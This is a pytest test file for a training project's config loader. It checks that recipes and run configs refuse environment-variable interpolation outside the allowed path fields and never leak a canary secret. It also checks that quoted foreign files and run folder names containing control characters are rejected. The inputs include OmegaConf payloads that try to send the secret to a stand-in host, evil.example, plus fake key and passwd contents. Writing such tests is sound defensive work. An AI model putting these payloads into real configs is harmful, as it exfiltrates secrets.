"""Tests that only places of a run's own config read the environment, and that configs quote no other files."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from minigptv2.config import load_config
from minigptv2.data.plan import load_recipe
from minigptv2.errors import ConfigError
from minigptv2.model.config import ModelConfig
from minigptv2.run_config import RunConfig, load_run_config
from tests.audit import audited, sent, started

CANARY = "s3cr3t-canary-value"
RUN = "stage: s\nrun_dir: runs/x\ndata: {recipe: r.yaml}\ntrain: {steps: 1, global_batch_size: 1, learning_rate: 1}\n"


@pytest.fixture(autouse=True)
def _place(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("CANARY_TOKEN", CANARY)
    monkeypatch.setenv("STORE", "/data/store")


@pytest.mark.parametrize(
    "corpus",
    [
        "{ratio: 1, shards: 'https://evil.example/${oc.env:CANARY_TOKEN}'}",
        "{ratio: 1, shards: 'https://${oc.env:CANARY_TOKEN}.evil.example/x'}",
        "{ratio: 1, shards: '${oc.env:STORE}/x'}",
        "{ratio: 1, shards: '${oc.env:NOT_THERE,https://evil.example}'}",
        "{ratio: 1, task: '${oc.env:CANARY_TOKEN}'}",
        "{ratio: 1, shards: '${oc.decode:${oc.env:CANARY_TOKEN}}'}",
        "{ratio: 1, shards: '${oc.select:x,${oc.env:CANARY_TOKEN}}'}",
        "{ratio: 1, shards: '${oc.create:{a: ${oc.env:CANARY_TOKEN}}}'}",
        "{ratio: 1, shards: '${${unit}.env:CANARY_TOKEN}'}",
        "{ratio: 1, shards: '\\${oc.env:CANARY_TOKEN}'}",
        "{ratio: '${oc.env:CANARY_TOKEN}'}",
        "'${oc.env:CANARY_TOKEN}'",
    ],
)
def test_a_recipe_reads_no_environment(corpus: str) -> None:
    Path("recipe.yaml").write_text(f"corpora:\n  a: {corpus}\n")
    with audited() as events, pytest.raises(ConfigError, match=r"recipe.yaml.*(environment|interpolated)") as caught:
        load_recipe("recipe.yaml")
    assert CANARY not in str(caught.value) and not sent(events) and not started(events)


@pytest.mark.parametrize(
    "line",
    [
        "stage: 's-${oc.env:CANARY_TOKEN}'",
        "seed: '${oc.env:CANARY_TOKEN}'",
        "stage: '${init_from}'",
        "stage: '${model}'",
    ],
)
def test_other_keys_of_a_run_read_no_environment_even_through_a_reference(line: str) -> None:
    text = RUN.replace("stage: s\n", "") if line.startswith("stage") else RUN
    Path("run.yaml").write_text(
        f"{text}init_from: '${{oc.env:CANARY_TOKEN}}'\nmodel: {{tokenizer: '${{init_from}}'}}\n{line}\n"
    )
    with pytest.raises(ConfigError, match="must not use the environment") as caught:
        load_run_config("run.yaml")
    assert CANARY not in str(caught.value)


@pytest.mark.parametrize("key", ["run_dir", "data.shards", "train.deepspeed", "init_from", "model.language_weights"])
def test_places_of_a_run_read_the_environment(key: str) -> None:
    Path("run.yaml").write_text(RUN)
    assert load_run_config("run.yaml", [f"{key}=${{oc.env:STORE}}/x"]).flat[key] == "/data/store/x"
    assert load_run_config("run.yaml", [f"{key}=${{oc.env:NOT_THERE,here}}/x"]).flat[key] == "here/x"


def test_every_path_of_a_run_may_read_the_environment() -> None:
    """Declared with the field, so a new path that forgets it fails here."""
    for schema in (RunConfig, ModelConfig):
        for field in vars(schema)["__dataclass_fields__"].values():
            if field.metadata.get("path"):
                assert field.metadata["environment"], field.name


@pytest.mark.parametrize("width", [2, 3, 10])
def test_references_that_multiply_are_refused(width: int) -> None:
    corpora = [f"  a{n}: {{ratio: 1, shards: '{f'${{corpora.a{n + 1}.shards}}' * width}'}}" for n in range(40)]
    Path("recipe.yaml").write_text("\n".join(["corpora:", *corpora, "  a40: {ratio: 1, shards: xxxxxxxx}"]))
    with pytest.raises(ConfigError, match="more than 65,536 characters"):
        load_recipe("recipe.yaml")


@pytest.mark.parametrize(
    "content",
    [
        f"TOKEN={CANARY} name: x\n",
        f"*{CANARY}: 1\n",
        f"!{CANARY} x\n",
        f"a: *{CANARY}\n",
        f"export KEY={CANARY}\n",
        f"{CANARY} {CANARY}: [x\n",
        f"'{CANARY} x': 1\n'{CANARY} x': 2\n",
        f"-----BEGIN KEY-----\n{CANARY}\n-----END KEY-----\n",
        f"root:{CANARY}:0:0\x00\n",
        f"[default]\nkey = {CANARY}: 1\n",
        f'"{CANARY}\\q"\n',
    ],
)
@pytest.mark.parametrize("schema", ["recipe", "run"])
def test_an_extended_file_that_is_no_config_is_not_quoted(content: str, schema: str) -> None:
    Path("other").write_text(content)
    Path("own.yaml").write_text("extends: other\n")
    with pytest.raises(ConfigError, match="other: ") as caught:
        load_recipe("own.yaml") if schema == "recipe" else load_config(RunConfig, "own.yaml")
    assert CANARY not in str(caught.value)


@pytest.mark.parametrize("name", ["runs/a\nb", "runs/\x1b[31m", "runs/\u202e", "runs/a\r", "\x07", "runs/a\tb"])
@pytest.mark.parametrize("key", ["run_dir", "stage"])
def test_a_run_folder_has_no_control_characters(name: str, key: str) -> None:
    Path("run.yaml").write_text(RUN)
    with pytest.raises(ConfigError, match=f"{key}=.*control characters") as caught:
        load_run_config("run.yaml", [f"{key}={json.dumps(name)}"])
    assert name not in str(caught.value)
